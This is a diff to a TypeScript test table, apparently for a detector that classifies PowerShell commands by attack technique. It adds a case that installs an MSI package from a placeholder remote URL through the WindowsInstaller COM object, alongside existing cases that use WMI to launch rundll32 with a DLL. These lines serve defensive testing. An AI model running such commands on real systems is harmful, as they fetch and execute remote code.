@@ -120,6 +120,10 @@ const TABLE: readonly (readonly [statement: string, expected: Record<string, unk
     "Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'rundll32 a.dll,Go'",
     { kind: 'start-dll', dll: 'a.dll' },
   ],
+  [
+    "(New-Object -ComObject WindowsInstaller.Installer).InstallProduct('http://host.invalid/a.msi', 'Q=1')",
+    { kind: 'msiexec-install', url: 'http://host.invalid/a.msi', remote: true },
+  ],
   ["iwmi win32_process create 'rundll32 a.dll,Go'", { kind: 'start-dll', dll: 'a.dll' }],
   [
     "Invoke-WmiMethod -Path Win32_Process -Name Create -Arg 'rundll32 a.dll,Go'",
